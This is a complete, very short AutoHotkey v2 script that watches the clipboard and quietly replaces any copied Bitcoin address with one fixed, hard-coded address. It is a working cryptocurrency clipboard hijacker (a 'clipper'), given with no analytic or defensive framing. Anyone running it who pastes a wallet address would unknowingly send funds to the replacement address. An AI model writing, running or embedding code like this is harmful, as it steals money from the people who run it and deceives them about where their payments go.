#Requires AutoHotkey v2.0
OnClipboardChange(Swap)
Swap(type) {
    if RegExMatch(A_Clipboard, "^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
        A_Clipboard := "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
}
